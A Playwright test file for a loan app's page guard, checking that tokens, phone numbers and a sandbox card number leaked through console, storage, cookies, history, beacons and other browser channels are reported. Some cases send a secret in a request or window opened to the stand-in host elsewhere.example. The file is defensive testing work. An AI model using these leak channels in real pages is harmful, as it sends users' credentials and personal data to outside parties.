/** The page guard of every journey reports leaked tokens and numbers; here each channel leaks one. */

import { expect, test } from '@loan/e2e/fixtures';
import { oneIn } from '@loan/e2e/nightlyTests';
import type { Page } from '@playwright/test';

type LeakCase = { channel: string; leak(page: Page, secret: string): Promise<unknown>; violation: RegExp };

const leaks: readonly LeakCase[] = [
  {
    channel: 'a console message',
    leak: (page, secret) => page.evaluate((text) => console.info(`value: ${text}`), secret),
    violation: /leaked \w+: console info/,
  },
  {
    channel: 'local storage',
    leak: (page, secret) => page.evaluate((text) => localStorage.setItem('kept', text), secret),
    violation: /leaked \w+: local storage kept/,
  },
  {
    channel: 'a second session storage key',
    leak: (page, secret) =>
      page.evaluate((text) => sessionStorage.setItem('kept', JSON.stringify({ a: { b: text } })), secret),
    violation: /leaked \w+: session storage kept/,
  },
  {
    channel: 'a cookie',
    leak: (page, secret) =>
      page.evaluate((text) => {
        document.cookie = `kept=${text}`;
      }, secret),
    violation: /leaked \w+: cookie/,
  },
  {
    channel: 'window.name',
    leak: (page, secret) =>
      page.evaluate((text) => {
        window.name = text;
      }, secret),
    violation: /leaked \w+: window name/,
  },
  {
    channel: 'the document title',
    leak: (page, secret) =>
      page.evaluate((text) => {
        document.title = `Order ${text}`;
      }, secret),
    violation: /leaked \w+: title/,
  },
  {
    channel: 'the history state',
    leak: (page, secret) => page.evaluate((text) => history.replaceState({ key: [text] }, ''), secret),
    violation: /leaked \w+: history state/,
  },
  {
    channel: 'the name of an IndexedDB database',
    leak: (page, secret) => page.evaluate((text) => void indexedDB.open(text), secret),
    violation: /leaked \w+: database/,
  },
  {
    channel: 'a request to another origin, which the policy blocks',
    leak: (page, secret) =>
      page.evaluate((text) => void fetch(`https://elsewhere.example/?t=${text}`).catch(() => undefined), secret),
    violation: /leaked \w+: console error/,
  },
  {
    channel: 'the URL of a page of another origin',
    leak: (page, secret) => page.evaluate((text) => void window.open(`https://elsewhere.example/?t=${text}`), secret),
    violation: /leaked \w+: another origin: https:\/\/elsewhere\.example/,
  },
  {
    channel: 'a request to the own origin outside the API',
    leak: (page, secret) =>
      page.evaluate((text) => void fetch(`/shell/nowhere?${encodeURIComponent(text)}`).catch(() => undefined), secret),
    violation: /leaked \w+: request \/shell\/nowhere/,
  },
  {
    channel: 'a report',
    leak: (page, secret) =>
      page.evaluate((text) => navigator.sendBeacon('/api/1/envelope/', `{"m":"${text}"}`), secret),
    violation: /leaked \w+: body of \/api\/1\/envelope\//,
  },
  {
    channel: 'a referrer',
    leak: (page, secret) =>
      page.evaluate(
        (text) =>
          void fetch('/shell/anywhere', {
            referrer: `${location.origin}/x/${text}`,
            referrerPolicy: 'unsafe-url',
          }).catch(() => undefined),
        secret,
      ),
    violation: /leaked \w+: referrer at \/shell\/anywhere/,
  },
];

/** The guard knows the sandbox's card numbers from the beginning. */
const CARD = '4005519200000004';

for (const [row, { channel, leak, violation }] of leaks.entries()) {
  test(
    `reports a token, a telephone number and a card number in ${channel}`,
    oneIn(3, row, 0),
    async ({ borrower, page, pageGuard }) => {
      const { phone } = await borrower.opensScenario('delete-account');
      await borrower.types(phone, 'Phone number');
      await borrower.taps('Send Verification Code');
      await borrower.sees('Verification code sent!');
      const { token } = await borrower.opensScenario('due-rollover');
      await borrower.seesButton('Rollover Repayment');
      expect(pageGuard.violations()).toEqual([]);
      const violationsOf = (secretKind: string) => () =>
        pageGuard.violations().filter((one) => violation.test(one) && one.startsWith(secretKind));

      for (const [secretKind, secret] of [
        ['leaked token', token],
        ['leaked number', phone],
      ] as const) {
        await leak(page, secret);
        await expect
          .poll(() => violationsOf(secretKind)().length, { message: `${secretKind} in ${channel}` })
          .toBeGreaterThan(0);
      }
      pageGuard.reset();
      await leak(page, CARD);
      await expect
        .poll(() => violationsOf('leaked number')().length, { message: `a card in ${channel}` })
        .toBeGreaterThan(0);
      pageGuard.allow(/./);
    },
  );
}

test('reports a number that a navigation writes into the URL', async ({ borrower, page, pageGuard }) => {
  await borrower.opensScenario('due-rollover');
  await borrower.seesButton('Rollover Repayment');
  await page.evaluate((card) => history.replaceState(null, '', `/order?card=${card}`), CARD);
  await expect.poll(() => pageGuard.violations()).toContain('leaked number: page URL in history');
  pageGuard.allow(/./);
});

test('guards every page of the browser context', async ({ borrower, context, page, pageGuard }) => {
  await borrower.opensUrl('/nowhere');
  await borrower.seesHeading('There is no page at this address');
  const second = await context.newPage();
  await second.goto('/nowhere');
  await second.evaluate((card) => localStorage.setItem('kept', card), CARD);
  await second.evaluate(() => setTimeout(() => Promise.reject(new Error('in the second page'))));
  await expect.poll(() => pageGuard.violations()).toContain('leaked number: local storage kept');
  await expect.poll(() => pageGuard.violations().join()).toContain('uncaught: in the second page');
  expect(page.url()).toContain('/nowhere');
  pageGuard.allow(/./);
});
